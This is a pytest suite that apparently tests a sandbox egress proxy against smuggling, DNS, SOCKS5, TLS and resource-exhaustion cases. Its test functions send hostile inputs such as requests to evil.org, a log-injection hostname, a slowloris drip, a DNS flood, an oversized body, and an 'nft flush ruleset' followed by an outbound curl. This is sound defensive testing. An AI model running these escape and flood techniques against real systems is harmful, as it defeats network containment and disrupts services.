"""The cases of shared/cases/egress.json, each from its bytes on the wire through the real proxy (see world.py)."""

from __future__ import annotations

import errno
import json
import os
import re
import socket
import time
from typing import TYPE_CHECKING, Any

import pytest

from launcher.capability.check import check_grant
from launcher.egress.policy import Rules
from launcher.egress.server.options import Limits
from launcher.errors import DocumentError
from tests.egress.world import PUBLIC, World, database, grant

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

pytestmark = pytest.mark.kernel

# A further set of cases is tried with MLSANDBOX_EGRESS_CASES.
CASES_FILE = os.environ.get("MLSANDBOX_EGRESS_CASES", os.path.join(os.path.dirname(__file__), "cases.json"))

# Where design.md decides otherwise than a case, or a case is about something that cannot happen here. Design wins.
DIFFERENCES = {
    "E026": "an empty list: a job without any egress grant still has DNS and proxy listeners here, so the case runs",
    "E304": "allowed as a known gap: the tunnel is opaque; the case carries no bytes",
    "E386": "a connection URL has no query (launcher.capability.databases); ?user=ro is written ro@",
    "E300": "h2 is never negotiated on intercepted connections (ALPN http/1.1 only): the preface itself is refused",
    "E302": "as E300; and leaves carry one name (test_certificates)",
}


def load() -> list[dict[str, Any]]:
    with open(CASES_FILE, encoding="utf-8") as file:
        return list(json.load(file)["cases"])


CASES = load()
BY_ID = {case["id"]: case for case in CASES}


def grants_of(policy: dict[str, Any]) -> list[Any]:
    """The case notation as grants."""
    found = []
    schemes = policy.get("schemes", ["https"])
    constraints: dict[str, Any] = {}
    if "ports" in policy:
        constraints["ports"] = policy["ports"]
    if "allow_private" in policy:
        constraints["allow_private"] = policy["allow_private"]
    if policy.get("inject"):
        constraints["inject"] = [{"header": i["header"], "secret": "SECRET"} for i in policy["inject"]]
    for text in policy["allow"]:
        if text.startswith("postgresql://"):
            url, _, query = text.partition("?user=")
            found.append(database(url.replace("://", f"://{query}@") if query else url))
            continue
        method, blank, rest = text.partition(" ")
        methods = {"methods": [method]} if blank else {}
        found.append(grant([rest if blank else text], schemes, **constraints, **methods))
    return found


class Worlds:
    """One world for each policy and resolver, started when first needed."""

    def __init__(self) -> None:
        self._worlds: dict[str, World] = {}

    def get(self, case: dict[str, Any], **settings: Any) -> World:
        key = json.dumps([case["policy"], case.get("resolver"), sorted(settings)], sort_keys=True)
        if key not in self._worlds:
            # A test must not wait for the default deadlines.
            settings.setdefault("limits", Limits(hello_time=1.0, head_time=1.0))
            answers = {
                name: [address for address in found if isinstance(address, list) or not address.startswith("CNAME")]
                for name, found in case.get("resolver", {}).items()
            }
            own = ["192.0.2.77"]
            for found in answers.values():
                found[:] = ["192.0.2.77" if "eth0" in str(address) else address for address in found]
            self._worlds[key] = World(grants_of(case["policy"]), answers=answers, own=own, **settings)
        return self._worlds[key]

    def close(self) -> None:
        for world in self._worlds.values():
            world.close()


@pytest.fixture(scope="module")
def worlds() -> Iterator[Worlds]:
    made = Worlds()
    yield made
    made.close()


def bytes_of(case: dict[str, Any]) -> bytes:
    return (
        bytes.fromhex(case["request_hex"]) if "request_hex" in case else case.get("request_bytes", "").encode("latin-1")
    )


def read_all(conn: socket.socket, seconds: float = 3.0) -> bytes:
    """Everything until the proxy closes or is silent."""
    conn.settimeout(seconds)
    data = b""
    try:
        while piece := conn.recv(65536):
            data += piece
            conn.settimeout(0.08)
    except (TimeoutError, ConnectionResetError):
        pass
    return data


def responses(data: bytes) -> list[tuple[int, bytes]]:
    """(status, body) of each final response."""
    found = []
    while data:
        head, _, rest = data.partition(b"\r\n\r\n")
        status = int(head.split(b" ")[1])
        length = re.search(rb"(?i)content-length: (\d+)", head)
        size = int(length[1]) if length else 0
        if status >= 200:
            found.append((status, rest[:size]))
        data = rest[size:]
    return found


def reason_of(body: bytes) -> str:
    try:
        return str(json.loads(body).get("reason", ""))
    except ValueError:
        return ""


VERDICTS = {200: "allow", 302: "allow", 403: "deny", 502: "error", 504: "error", 429: "limit"}


def http_verdict(data: bytes) -> dict[str, Any]:
    """The verdict as a client sees it."""
    if not data:
        return {"verdict": "close", "status": 0, "reason": ""}
    found = responses(data)
    status, body = found[0]
    return {"verdict": VERDICTS.get(status, "reject"), "status": status, "reason": reason_of(body), "all": found}


def agree(case: dict[str, Any], seen: dict[str, Any], world: World, since: int) -> None:
    expected = case["expected"]
    assert seen["verdict"] == expected["verdict"], (seen, world.records[since:])
    if "status" in expected:
        assert seen["status"] == expected["status"], seen
    if expected["verdict"] == "deny":
        assert seen["reason"] == expected["reason"], seen
    records = world.collect(0.02)[since:]
    if expected["verdict"] in {"deny", "reject"}:
        assert not [record for record in records if "upstream" in record], "something was contacted"
        denied = [event for event in world.events(since) if event["outcome"] == "DENIED"]
        assert denied, "a denial without an audit event"
    if "lookups" in expected:
        assert len([record for record in records if "lookup" in record]) == expected["lookups"]
    if "connects_to" in expected:
        assert [r["address"] for r in records if r.get("upstream") == "connect"] == [expected["connects_to"]]


def exchange(world: World, conn: socket.socket, data: bytes) -> bytes:
    conn.sendall(data)
    found = read_all(conn)
    conn.close()
    return found


# ---- kinds


def explicit(case: dict[str, Any], world: World) -> None:
    since = len(world.collect())
    seen = http_verdict(exchange(world, world.proxy(), bytes_of(case)))
    agree(case, seen, world, since)


def connection(world: World, port: int, name: str = "api.example.com") -> socket.socket:
    address = world.resolve(name)
    assert address, f"{name} does not resolve in the job"
    return world.connect(address, port)


def web(case: dict[str, Any], world: World) -> None:
    """http, smuggle, path, upgrade: absolute-form and CONNECT to the proxy, origin-form on a transparent connection."""
    data = bytes_of(case)
    expected = case["expected"]
    conn = world.proxy() if is_proxy_request(case, data) else connection(world, 80)
    since = len(world.collect())
    conn.sendall(data)
    if case["id"] == "E212":
        conn.shutdown(socket.SHUT_WR)
    answer = read_all(conn)
    conn.close()
    seen = http_verdict(answer)
    if expected["verdict"] == "allow-then-deny" and len(seen["all"]) > 1:
        assert seen["verdict"] == "allow"
        status, body = seen["all"][1]
        assert (status, reason_of(body)) == (403, expected["second"]["reason"])
        return
    if case["id"] == "E232":
        seen = http_verdict(answer.partition(b"\r\n\r\n")[2][len(seen["all"][0][1]) :])
        agree_loosely(expected, seen)
        return
    if case["id"] == "E212":
        seen = http_verdict(answer[answer.rindex(b"HTTP/1.1 ") :])
    if (
        expected["verdict"] in {"deny", "reject"}
        and seen["status"] == expected["status"]
        and "\r\n\r\n" in data.decode("latin-1")
    ):
        # A broken body shows after its head was passed on: what counts is that nothing behind it was.
        agree_loosely(expected, seen)
        forwarded = b"".join(
            r["data"].encode("latin-1") for r in world.collect(0.02)[since:] if r.get("upstream") == "data"
        )
        assert b"evil" not in forwarded and b"admin" not in forwarded
        return
    agree(case, seen, world, since)
    forwarded = b"".join(
        r["data"].encode("latin-1") for r in world.collect(0.02)[since:] if r.get("upstream") == "data"
    )
    for name in expected.get("stripped", ()):
        assert name.lower().encode() not in forwarded.lower()
    if "forwarded_host" in expected:
        assert b"Host: " + expected["forwarded_host"].encode() + b"\r\n" in forwarded


def agree_loosely(expected: dict[str, Any], seen: dict[str, Any]) -> None:
    assert seen["verdict"] == expected["verdict"], seen
    assert seen["status"] == expected.get("status", seen["status"]), seen


def is_proxy_request(case: dict[str, Any], data: bytes) -> bool:
    if "transparent" in case["name"]:
        return False
    return data.startswith(b"CONNECT ") or b" http://" in data.partition(b"\r\n")[0] or b" ftp://" in data[:12]


def socks(case: dict[str, Any], world: World) -> None:
    since = len(world.collect())
    answer = exchange(world, world.proxy(), bytes_of(case))
    expected = case["expected"]
    if "reply" in expected:
        assert answer == bytes.fromhex(expected["reply"])
        return
    assert answer[:2] == b"\x05\x00"
    assert answer[3] == expected["rep"]
    event = world.wait(lambda record: record.get("audit", {}).get("outcome") == "DENIED", since=since)["audit"]
    assert event["detail"]["reason"] == expected["reason"]
    assert not [r for r in world.collect(0.02)[since:] if "upstream" in r or "lookup" in r]


RCODES = {"NOERROR": 0, "FORMERR": 1, "NXDOMAIN": 3, "NOTIMP": 4, "REFUSED": 5}


def dns(case: dict[str, Any], world: World) -> None:
    expected, packet = case["expected"], bytes_of(case)
    world.resolve("api.example.com")  # so that its address is there to be asked for
    since = len(world.collect())
    reply = world.dns(packet)
    assert reply[:2] == packet[:2] and reply[2] & 0x80, "no answer"
    if "rcode" in expected:
        if expected["rcode"] == "BADVERS":
            assert reply[3] & 15 == 0 and reply[-6] == 1, reply.hex()  # extended rcode 16 is in the OPT record
        else:
            assert reply[3] & 15 == RCODES[expected["rcode"]], reply.hex()
    answers = reply[6] << 8 | reply[7]
    if "answers" in expected:
        assert answers == expected["answers"]
    if "answer" in expected and case["expected"]["answer"].startswith("127"):
        assert reply.endswith(socket.inet_aton("127.0.0.1"))
    elif "answer" in expected:
        assert reply.endswith(b"\x03api\x07example\x03com\x00")
    if "question" in expected:
        assert packet[12:] in reply
    if "opt" in expected:
        assert reply[11] == 1 and b"\0\0\x29" in reply and not reply[3] & 0x20  # AD is never set
    if expected["verdict"] == "allow-or-formerr":
        assert reply[3] & 15 in (0, 1) and b"SECRET" not in reply
    assert not [r for r in world.collect(0.02)[since:] if "lookup" in r], "a query left the host"
    if expected["verdict"] == "deny":
        event = world.wait(lambda record: record.get("audit", {}).get("outcome") == "DENIED", since=since)["audit"]
        assert event["detail"]["reason"] == expected["reason"]


ALERTS = {"access_denied(49)": 49, "no_application_protocol(120)": 120}


def tls(case: dict[str, Any], world: World) -> None:
    expected, data = case["expected"], bytes_of(case)
    name = case["policy"]["allow"][0]
    if name.startswith("*."):
        name = "api" + name[1:] if "cloudflare" not in name else sni_of(data)
    conn = world.connect(name, 443) if name[0].isdigit() else connection(world, 443, name.partition("/")[0])
    since = len(world.collect())
    if "byte by byte" in case.get("description", ""):
        conn.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for at in range(len(data)):
            conn.sendall(data[at : at + 1])
    elif data:
        conn.sendall(data)
    answer = read_all(conn)
    conn.close()
    records = world.collect(0.05)[since:]
    sent = [r["data"].encode("latin-1") for r in records if r.get("upstream") == "data"]
    if expected["verdict"] == "allow":
        assert b"".join(sent) == data
        assert answer.endswith(b"mark")
        return
    assert not sent, "bytes left before the verdict"
    if data:
        code = ALERTS.get(expected.get("tls_alert", ""))
        assert answer[:6] == bytes.fromhex("150303000202") and code in (None, answer[6]), answer
    event = world.wait(lambda record: record.get("audit", {}).get("outcome") == "DENIED", since=since)["audit"]
    assert event["detail"]["reason"].replace("1 s", "5 s") == expected["reason"]


def sni_of(data: bytes) -> str:
    from launcher.egress.protocol.tls import HelloReader

    hello = HelloReader().feed(data)
    assert hello is not None and hello.sni
    return hello.sni


def policy(case: dict[str, Any], _world: Any) -> None:
    expected = case["expected"]
    if expected["verdict"] == "policy-error":
        with pytest.raises(DocumentError):
            for found in grants_of(case["policy"]):
                check_grant(found)  # what reading the policy refuses
            Rules(grants_of(case["policy"]))
        return
    rules = Rules(grants_of(case["policy"]))
    if "canonical" in expected:
        assert rules.rules[0].pattern.host == expected["canonical"]


KINDS: dict[str, Callable[[dict[str, Any], World], None]] = {
    "authority": explicit,
    "ip": explicit,
    "match": explicit,
    "resolve": explicit,
    "http": web,
    "smuggle": web,
    "path": web,
    "upgrade": web,
    "socks5": socks,
    "dns": dns,
    "tls": tls,
}


def scripted(case: dict[str, Any]) -> bool:
    """Cases without bytes, or whose point is not one exchange: they have a function of their own below."""
    return case["id"] in SCRIPTS or case["kind"] in {"transparent", "resource", "cred"}


def run(case: dict[str, Any], worlds: Worlds) -> None:
    if case["id"] in SCRIPTS:
        SCRIPTS[case["id"]](case, worlds)
    elif case["expected"]["verdict"] in {"policy-error", "policy-ok"}:
        policy(case, None)
    else:
        handler = {"policy": explicit, "port": explicit}.get(case["kind"]) or KINDS[case["kind"]]
        handler(case, worlds.get(case))


@pytest.mark.parametrize("case", CASES, ids=[f"{case['id']}-{case['kind']}" for case in CASES])
def test_case(case: dict[str, Any], worlds: Worlds) -> None:
    run(case, worlds)


# ---- cases with a script of their own

SCRIPTS: dict[str, Callable[[dict[str, Any], Worlds], None]] = {}


def script(*ids: str) -> Callable[[Callable[[dict[str, Any], Worlds], None]], Callable[[dict[str, Any], Worlds], None]]:
    def register(function: Callable[[dict[str, Any], Worlds], None]) -> Callable[[dict[str, Any], Worlds], None]:
        for name in ids:
            SCRIPTS[name] = function
        return function

    return register


def denied(world: World, since: int) -> str:
    record = world.wait(lambda record: record.get("audit", {}).get("outcome") == "DENIED", since=since)
    return str(record["audit"]["detail"]["reason"])


@script("E160")
def cleartext_in_a_tunnel(case: dict[str, Any], worlds: Worlds) -> None:
    world = worlds.get(case)
    since = len(world.collect())
    connect, _, inner = bytes_of(case).partition(b"\r\n\r\n")
    conn = world.proxy()
    conn.sendall(connect + b"\r\n\r\n")
    assert b" 200 " in conn.recv(4096)
    assert b" 403 " in exchange(world, conn, inner)
    assert denied(world, since) == case["expected"]["reason"]
    assert not [r for r in world.collect(0.02)[since:] if r.get("upstream") == "data"]


@script("E230")
def unexpected_101(case: dict[str, Any], worlds: Worlds) -> None:
    seen = http_verdict(
        exchange(
            worlds.get(case), connection(worlds.get(case), 80), b"GET /101 HTTP/1.1\r\nHost: api.example.com\r\n\r\n"
        )
    )
    assert (seen["status"], seen["reason"]) == (502, "unexpected 101")


@script("E224")
def second_response(case: dict[str, Any], worlds: Worlds) -> None:
    world = worlds.get(case)
    answer = exchange(world, world.proxy(), bytes_of(case).replace(b"/a ", b"/two "))
    assert answer.endswith(b"\r\n\r\nok") and b"evil" not in answer


@script("E226")
def interim(case: dict[str, Any], worlds: Worlds) -> None:
    world = worlds.get(case)
    conn = world.proxy()
    conn.sendall(b"GET http://api.example.com/100 HTTP/1.1\r\nHost: api.example.com\r\n\r\n")
    answer = read_all(conn)
    assert answer.startswith(b"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 ")
    conn.sendall(bytes_of(case) + b"abc")
    assert b" 200 " in read_all(conn)
    conn.close()


@script("E276")
def redirect(case: dict[str, Any], worlds: Worlds) -> None:
    world = worlds.get(case)
    assert b" 302 " in exchange(world, connection(world, 80), bytes_of(case))
    seen = http_verdict(exchange(world, world.proxy(), b"GET http://evil.org/ HTTP/1.1\r\nHost: evil.org\r\n\r\n"))
    assert (seen["verdict"], seen["reason"]) == ("deny", "not in allowlist")


@script("E300", "E302")
def no_h2_inside(case: dict[str, Any], worlds: Worlds) -> None:
    """DIFFERENCES: h2 cannot be spoken, so :authority and coalescing cannot arise."""
    from launcher.egress.protocol.http1 import HeadReader, check_request_start
    from launcher.egress.protocol.malformed import Malformed
    from launcher.egress.server.intercept import ALPN

    assert ALPN == "http/1.1"
    with pytest.raises(Malformed, match="h2c"):
        HeadReader(check_request_start).feed(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")


@script("E304")
def fronting_is_a_known_gap(case: dict[str, Any], worlds: Worlds) -> None:
    """What is inside a tunnel is not seen: the SNI of the granted name is all there is to judge."""
    hello = bytes_of(BY_ID["E278"]).replace(b"api.example.com", b"cdn.example.com")
    tls({**case, "request_hex": hello.hex()}, worlds.get(case))


@script("E350")
def trailing(case: dict[str, Any], worlds: Worlds) -> None:
    dns(case, worlds.get(case))


@script("E352")
def two_queries_in_a_segment(case: dict[str, Any], worlds: Worlds) -> None:
    conn = worlds.get(case).connect("127.0.0.1", 53)
    conn.sendall(bytes_of(case))
    reply = read_all(conn)
    first = int.from_bytes(reply[:2], "big")
    second = int.from_bytes(reply[2 + first : 4 + first], "big")
    assert len(reply) == 4 + first + second
    conn.close()


@script("E354")
def endless_length(case: dict[str, Any], worlds: Worlds) -> None:
    conn = worlds.get(case).connect("127.0.0.1", 53)
    conn.sendall(bytes_of(case))
    conn.settimeout(5)
    try:
        assert conn.recv(1) == b""
    except ConnectionResetError:
        pass
    conn.close()


@script("E356")
def other_name_services(case: dict[str, Any], worlds: Worlds) -> None:
    world = worlds.get(case)
    since = len(world.collect())
    started = time.monotonic()
    conn = world.connect("9.9.9.9", 853)
    assert read_all(conn) == b""
    conn.close()
    for address, port in (("9.9.9.9", 853), ("224.0.0.251", 5353), ("224.0.0.252", 5355), ("10.0.0.255", 137)):
        with world.make_socket(kind=socket.SOCK_DGRAM) as asking, pytest.raises(OSError):
            asking.sendto(b"x", (address, port))
            asking.settimeout(0.2)
            asking.recv(10)
    assert time.monotonic() - started < 4
    assert denied(world, since) == "ip literal not allowed"


@script("E360")
def flood(case: dict[str, Any], worlds: Worlds) -> None:
    world = worlds.get(case, limits=Limits(dns_rate=50))
    packet = bytes_of(BY_ID["E310"])
    asking = world.make_socket(kind=socket.SOCK_DGRAM)
    for _ in range(2000):
        asking.sendto(packet, ("127.0.0.1", 53))
    asking.settimeout(0.3)
    answers = 0
    try:
        while asking.recv(4096):
            answers += 1
    except TimeoutError:
        pass
    assert 40 <= answers <= 200
    asking.close()


@script("E366")
def literal_with_allowed_sni(case: dict[str, Any], worlds: Worlds) -> None:
    world = worlds.get(case)
    since = len(world.collect())
    answer = exchange(world, world.connect("1.2.3.4", 443), bytes_of(BY_ID["E278"]))
    assert answer == bytes.fromhex("15030300020231")
    assert denied(world, since) == case["expected"]["reason"]


@script("E368")
def stale_address(case: dict[str, Any], worlds: Worlds) -> None:
    world = worlds.get(case)
    since = len(world.collect())
    exchange(world, world.connect("198.18.0.77", 443), b"GET / HTTP/1.1\r\n\r\n")
    assert denied(world, since) == case["expected"]["reason"]


@script("E370")
def quic(case: dict[str, Any], worlds: Worlds) -> None:
    with worlds.get(case).make_socket(kind=socket.SOCK_DGRAM) as asking:
        started = time.monotonic()
        with pytest.raises(PermissionError):
            asking.sendto(b"x", ("1.1.1.1", 443))
        assert time.monotonic() - started < 0.05


@script("E372")
def other_protocols(case: dict[str, Any], worlds: Worlds) -> None:
    """What seccomp leaves of these has no way out either: there is no interface, and the filter refuses them."""
    status, output = worlds.get(case).run(
        [
            "python3",
            "-c",
            (
                "import socket\nfor kind, protocol in ((socket.SOCK_DGRAM, 136), (socket.SOCK_STREAM, 132)):\n"
                "    try:\n        s = socket.socket(socket.AF_INET, kind, protocol); s.settimeout(1); s.connect(('1.1.1.1', 9)); s.send(b'x'); s.recv(1)\n"
                "        print('OUT')\n    except OSError as error: print('refused', error)"
            ),
        ]
    )
    assert status == 0 and "OUT" not in output and output.count("refused") == 2


@script("E374")
def own_server_is_not_outside(case: dict[str, Any], worlds: Worlds) -> None:
    world = worlds.get(case)
    since = len(world.collect())
    server = world.make_socket()
    server.bind(("0.0.0.0", 8000))
    server.listen()
    exchange(world, world.connect("8.8.8.8", 8000), b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
    assert denied(world, since) == case["expected"]["reason"]
    server.settimeout(0.05)
    with pytest.raises(TimeoutError):
        server.accept()
    server.close()


@script("E376")
def flushed_rules(case: dict[str, Any], worlds: Worlds) -> None:
    world = World(grants_of(case["policy"]))
    try:
        status, _ = world.run(["nft", "flush", "ruleset"])
        assert status == 0
        started = time.monotonic()
        status, _ = world.run(["curl", "-sS", "-m", "5", "http://1.2.3.4/"])
        assert status == 7 and time.monotonic() - started < 2
        assert not [r for r in world.collect(0.05) if "upstream" in r]
    finally:
        world.close()


@script("E378")
def abstract_socket(case: dict[str, Any], worlds: Worlds) -> None:
    with socket.socket(socket.AF_UNIX) as host:
        host.bind("\0mlsandbox-egress-test")
        host.listen()
        program = "import socket; s = socket.socket(socket.AF_UNIX); s.connect('\\0mlsandbox-egress-test')"
        status, output = worlds.get(case).run(["python3", "-c", program])
    assert status and "ConnectionRefused" in output


@script("E380")
def host_loopback(case: dict[str, Any], worlds: Worlds) -> None:
    with socket.create_server(("127.0.0.1", 0)) as host, worlds.get(case).make_socket() as conn:
        assert conn.connect_ex(host.getsockname()) == errno.ECONNREFUSED


@script("E382")
def fast_open(case: dict[str, Any], worlds: Worlds) -> None:
    world = worlds.get(case)
    address = world.resolve("api.example.com")
    since = len(world.collect())
    conn = world.make_socket()
    conn.setblocking(True)
    conn.sendto(bytes_of(BY_ID["E280"]), socket.MSG_FASTOPEN, (address, 443))
    assert read_all(conn) == bytes.fromhex("15030300020231")
    conn.close()
    assert not [r for r in world.collect(0.05)[since:] if r.get("upstream") == "data"]


@script("E384")
def server_first(case: dict[str, Any], worlds: Worlds) -> None:
    """No byte of the client is waited for before dialling."""
    world = worlds.get(case)
    since = len(world.collect())
    conn = connection(world, 5432, "analytics-db")
    world.wait(lambda record: record.get("upstream") == "connect" and record["port"] == 5432, seconds=2, since=since)
    conn.close()


def startup(**options: str) -> bytes:
    body = b"\0\3\0\0" + b"".join(k.encode() + b"\0" + v.encode() + b"\0" for k, v in options.items()) + b"\0"
    return (len(body) + 4).to_bytes(4, "big") + body


@script("E386")
def other_database(case: dict[str, Any], worlds: Worlds) -> None:
    world = worlds.get(case)
    since = len(world.collect())
    answer = exchange(world, connection(world, 5432, "analytics-db"), startup(user="ro", database="secrets"))
    assert answer[:1] == b"E" and b"FATAL" in answer and b"database not allowed" in answer
    assert denied(world, since) == case["expected"]["reason"]
    assert not [r for r in world.collect(0.05)[since:] if r.get("upstream") == "data"]
    assert exchange(world, connection(world, 5432, "analytics-db"), startup(user="ro", database="reports"))[:1] == b"R"


@script("E388")
def http_to_postgres(case: dict[str, Any], worlds: Worlds) -> None:
    world = worlds.get(case)
    since = len(world.collect())
    exchange(world, connection(world, 5432, "analytics-db"), b"GET / HTTP/1.1\r\nHost: analytics-db\r\n\r\n")
    assert denied(world, since) == case["expected"]["reason"]
    assert not [r for r in world.collect(0.05)[since:] if r.get("upstream") == "data"]


@script("E390")
def half_close(case: dict[str, Any], worlds: Worlds) -> None:
    world = World([grant(["api.example.com:7000"], ("tcp",))])
    conn = connection(world, 7000)
    conn.sendall(b"x")
    conn.shutdown(socket.SHUT_WR)
    assert read_all(conn) == b"xbye"
    conn.close()
    world.close()


@script("E392")
def refused_upstream(case: dict[str, Any], worlds: Worlds) -> None:
    world = World(grants_of(case["policy"]), servers={})
    seen = http_verdict(exchange(world, world.proxy(), bytes_of(BY_ID["E028"])))
    assert (seen["verdict"], seen["status"], seen["reason"]) == ("error", 502, "connection refused")
    conn = connection(world, 443)
    conn.sendall(bytes_of(BY_ID["E278"]))
    with pytest.raises(ConnectionResetError):
        conn.recv(10)
    conn.close()
    world.close()


@script("E404")
def large_head(case: dict[str, Any], worlds: Worlds) -> None:
    world = worlds.get(case)
    head = b"GET / HTTP/1.1\r\nHost: api.example.com\r\nX: " + b"a" * 70000 + b"\r\n\r\n"
    assert http_verdict(exchange(world, connection(world, 80), head))["status"] == 431


@script("E406")
def slow_loris(case: dict[str, Any], worlds: Worlds) -> None:
    world = worlds.get(case)
    conn = connection(world, 80)
    conn.settimeout(0.2)
    started, answer = time.monotonic(), b""
    for byte in b"GET / HTTP/1.1\r\nHost: api.example.com\r\n" * 2:
        try:
            conn.sendall(bytes((byte,)))
            answer = conn.recv(4096)
        except TimeoutError:
            continue
        except OSError:
            break
        if answer:
            break
    assert answer.startswith(b"HTTP/1.1 408 ") and time.monotonic() - started < 3
    conn.close()


@script("E408")
def too_many_tunnels(case: dict[str, Any], worlds: Worlds) -> None:
    world = worlds.get(case, limits=Limits(connections=20, hello_time=5))
    held = [world.proxy() for _ in range(30)]
    for conn in held:
        conn.sendall(b"CONNECT api.example.com:443 HTTP/1.1\r\nHost: api.example.com:443\r\n\r\n")
    answers = [read_all(conn, 1) for conn in held]
    assert sum(b" 200 " in answer for answer in answers) == 20
    assert all(b" 429 " in answer or not answer for answer in answers if b" 200 " not in answer)
    for conn in held:
        conn.close()


@script("E410")
def log_injection(case: dict[str, Any], worlds: Worlds) -> None:
    world = worlds.get(case)
    since = len(world.collect())
    exchange(world, world.proxy(), b"GET http://evil\x1b[31m.org/ HTTP/1.1\r\nHost: x\r\n\r\n")
    exchange(world, world.proxy(), b"GET http://" + b"a." * 15000 + b"org/ HTTP/1.1\r\nHost: x\r\n\r\n")
    world.wait(lambda record: record.get("audit", {}).get("outcome") == "DENIED", since=since)
    for event in world.events(since):
        assert "\x1b" not in json.dumps(event, ensure_ascii=False) and len(event["resource"]) <= 270


@script("E412")
def quota(case: dict[str, Any], worlds: Worlds) -> None:
    world = World([grant(["api.example.com:7001"], ("tcp",), max_bytes=1_000_000)], servers={7001: "sink"})
    held = [connection(world, 7001) for _ in range(20)]
    for conn in held:
        try:
            conn.sendall(bytes(100_000))
        except OSError:
            pass
    for conn in held:
        conn.close()
    deadline = time.monotonic() + 5
    while len(world.events()) < 20 and time.monotonic() < deadline:
        world.collect(0.05)
    sums = [event["detail"]["bytes_up"] for event in world.events()]
    assert sum(sums) == 1_000_000, "the sum over all connections is exact"
    received = sum(int(record["data"]) for record in world.collect(0.3) if record.get("upstream") == "data")
    assert received <= 1_000_000
    world.close()


@script("E414")
def reader_that_never_reads(case: dict[str, Any], worlds: Worlds) -> None:
    world = World([grant(["api.example.com:7002"], ("tcp",))], servers={7002: "source"})
    conn = connection(world, 7002)
    conn.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 65536)
    with connection(world, 7002) as warm:
        warm.sendall(b"5000000\n")
        read_all(warm)
    before = rss(world.proxy_pid())
    conn.sendall(b"300000000\n")
    time.sleep(0.5)
    assert rss(world.proxy_pid()) - before < 1 << 20
    conn.close()
    world.close()


def rss(pid: int) -> int:
    with open(f"/proc/{pid}/statm") as file:
        return int(file.read().split()[1]) * 4096


@script("E416")
def pipes_are_leased(case: dict[str, Any], worlds: Worlds) -> None:
    """Idle tunnels hold no pipe: descriptors grow by two a tunnel."""
    world = World([grant(["api.example.com:7000"], ("tcp",))])
    address = world.resolve("api.example.com")
    held = [world.connect(address, 7000) for _ in range(50)]
    for conn in held:
        conn.sendall(b"hi")
        assert conn.recv(2) == b"hi"
    time.sleep(0.1)
    fds = os.listdir(f"/proc/{world.proxy_pid()}/fd")
    # The servers of the make-believe internet share this process: three sockets a tunnel.
    assert len(fds) < 3 * 50 + 2 * 16 + 60
    for conn in held:
        conn.close()
    world.close()


@script("E418")
def job_ends(case: dict[str, Any], worlds: Worlds) -> None:
    world = World([grant(["api.example.com:7000"], ("tcp",))])
    conn = connection(world, 7000)
    conn.sendall(b"hi")
    assert conn.recv(2) == b"hi"
    started = time.monotonic()
    assert world.ask(op="stop")["ok"]
    assert read_all(conn) == b"" and time.monotonic() - started < 1
    event = world.wait(lambda record: record.get("audit", {}).get("outcome") == "ALLOWED")["audit"]
    assert (event["detail"]["bytes_up"], event["detail"]["bytes_down"]) == (2, 2)
    totals = world.wait(lambda record: "totals" in record)["totals"]
    assert totals["hosts"]["api.example.com"] == {"connections": 1, "denied": 0, "bytes_up": 2, "bytes_down": 2}
    conn.close()
    world.close()


@script("E420")
def body_of_a_denied_request(case: dict[str, Any], worlds: Worlds) -> None:
    world = worlds.get(case)
    since = len(world.collect())
    conn = world.proxy()
    conn.sendall(b"POST http://evil.org/ HTTP/1.1\r\nHost: evil.org\r\nContent-Length: 100000000\r\n\r\n")
    try:
        for _ in range(100):
            conn.sendall(bytes(1_000_000))
    except OSError:
        pass
    assert b" 403 " in read_all(conn)
    conn.close()
    assert not [r for r in world.collect(0.05)[since:] if "upstream" in r]


@script("E422", "E424", "E426", "E430", "E432")
def credentials(case: dict[str, Any], worlds: Worlds) -> None:
    """Interception needs real TLS at both ends: test_intercept.py runs these under their ids."""
    with open(os.path.join(os.path.dirname(__file__), "test_intercept.py"), encoding="utf-8") as file:
        assert f"def test_{case['id'].lower()}_" in file.read()


@script("E428")
def inject_needs_https(case: dict[str, Any], worlds: Worlds) -> None:
    with pytest.raises(DocumentError, match="https"):
        Rules(grants_of(case["policy"]))


def test_every_case_is_run() -> None:
    for case in CASES:
        runnable = case["kind"] in KINDS or case["kind"] in {"policy", "port"} or case["id"] in SCRIPTS
        assert runnable, case["id"]
    assert PUBLIC
